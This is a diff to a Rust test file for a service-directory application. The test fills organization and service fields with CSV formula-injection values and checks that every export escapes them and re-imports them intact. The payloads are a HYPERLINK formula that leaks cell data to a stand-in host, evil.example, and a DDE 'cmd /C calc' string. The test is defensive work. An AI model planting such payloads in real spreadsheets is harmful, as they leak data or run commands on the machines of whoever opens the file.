@@ -192,3 +192,158 @@ fn a_referral_slip_shows_only_what_the_household_consented_to_share() {
         2
     );
 }
+
+/// Whether a spreadsheet would run a cell as a formula.
+fn formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn a_poisoned_directory_reaches_no_csv_as_a_formula_and_imports_back_whole() {
+    use daleel::directory::{self, hsds, sheet};
+    use daleel::store::Edit;
+    let d = demo();
+    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    let sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let referral: Referral =
+        d.ws.store
+            .all::<Referral>()
+            .map(|r| r.expect("r"))
+            .next()
+            .expect("a referral");
+    let mut org =
+        d.ws.store
+            .organization(referral.organization)
+            .expect("read")
+            .expect("its organization");
+    org.name = hyperlink.into();
+    org.acronym = sum.into();
+    let mut service =
+        d.ws.store
+            .service(referral.service)
+            .expect("read")
+            .expect("its service");
+    service.name = "-2+3".into();
+    service.description = "+1 day".into();
+    service.hours = "\tSun-Thu".into();
+    d.save(&[
+        Edit::Organization(org.clone()),
+        Edit::Service(service.clone()),
+    ]);
+
+    let since = daleel::model::Date::parse("2020-01-01").expect("d");
+    let until = d.ws.store.now().date();
+    let report = build(&d.ws.store, since, until, &[By::Org]).expect("report");
+    let hsds_dir = tempfile::tempdir().expect("hsds");
+    hsds::write(&d.ws.store, hsds_dir.path()).expect("hsds");
+    let mut csvs: Vec<(String, Vec<u8>)> = vec![
+        ("report".into(), report.csv(true).expect("csv")),
+        (
+            "services template".into(),
+            sheet::write(&d.ws.store).expect("sheet"),
+        ),
+    ];
+    for table in [Table::Needs, Table::Referrals, Table::Services] {
+        let (bytes, _) = write(&d.ws.store, table, Detail::default()).expect("export");
+        csvs.push((format!("{table:?} export"), bytes));
+    }
+    for f in ["organizations.csv", "services.csv", "schedules.csv"] {
+        csvs.push((
+            f.into(),
+            std::fs::read(hsds_dir.path().join(f)).expect("read"),
+        ));
+    }
+    for (what, bytes) in &csvs {
+        let all = lines(bytes);
+        for row in &all {
+            for cell in row {
+                assert!(
+                    !formula(cell) || cell.parse::<f64>().is_ok(),
+                    "{what}: {cell:?} would run as a formula"
+                );
+            }
+        }
+    }
+    let text = |what: &str| {
+        let bytes = &csvs.iter().find(|(w, _)| w == what).expect(what).1;
+        lines(bytes).concat()
+    };
+    for (what, wanted) in [
+        ("report", vec![format!("'{sum}")]),
+        ("Referrals export", vec![format!("'{sum}")]),
+        ("Services export", vec![format!("'{sum}"), "'-2+3".into()]),
+        (
+            "services template",
+            vec![
+                format!("'{hyperlink}"),
+                format!("'{sum}"),
+                "'-2+3".into(),
+                "'+1 day".into(),
+            ],
+        ),
+        (
+            "organizations.csv",
+            vec![format!("'{hyperlink}"), format!("'{sum}")],
+        ),
+        ("services.csv", vec!["'-2+3".into(), "'+1 day".into()]),
+        ("schedules.csv", vec!["'\tSun-Thu".into()]),
+    ] {
+        let cells = text(what);
+        for w in wanted {
+            assert!(cells.contains(&w), "{what}: {w:?} not in {cells:?}");
+        }
+    }
+    // The numbers of the report and of the referrals export are numbers still.
+    let report_rows = lines(&csvs[0].1);
+    assert!(report_rows[2..].iter().all(|r| {
+        r[1..r.len() - 1]
+            .iter()
+            .all(|c| c.parse::<u64>().is_ok() || c == "<5")
+    }));
+    let referrals = lines(
+        &csvs
+            .iter()
+            .find(|(w, _)| w == "Referrals export")
+            .expect("r")
+            .1,
+    );
+    let days = referrals[0]
+        .iter()
+        .position(|c| c == "days_to_response")
+        .expect("column");
+    assert!(
+        referrals[2..]
+            .iter()
+            .any(|r| r[days].parse::<u64>().is_ok())
+    );
+
+    // Daleel's own files come back as they were: the HSDS folder and the spreadsheet.
+    let e = Device::new();
+    let incoming = hsds::read(hsds_dir.path(), &e.ws.store.gazetteer()).expect("read");
+    let p = directory::preview(&e.ws.store, incoming).expect("preview");
+    directory::apply(&e.ws.store, "c", p).expect("apply");
+    assert_eq!(
+        e.ws.store.organization(org.id).expect("r"),
+        Some(org.clone())
+    );
+    assert_eq!(
+        e.ws.store.service(service.id).expect("r"),
+        Some(service.clone())
+    );
+    let sheet_path = hsds_dir.path().join("daleel-services.csv");
+    std::fs::write(&sheet_path, &csvs[1].1).expect("write");
+    let f = Device::new();
+    let known = f.ws.store.organizations().expect("o");
+    let incoming = sheet::read(&sheet_path, &f.ws.store.gazetteer(), &known).expect("read");
+    assert!(incoming.problems.is_empty(), "{:#?}", incoming.problems);
+    let p = directory::preview(&f.ws.store, incoming).expect("preview");
+    directory::apply(&f.ws.store, "c", p).expect("apply");
+    let back =
+        f.ws.store
+            .service(service.id)
+            .expect("r")
+            .expect("the service");
+    assert_eq!(back, service);
+    let back_org = f.ws.store.organization(org.id).expect("r").expect("org");
+    assert_eq!((back_org.name, back_org.acronym), (org.name, org.acronym));
+}
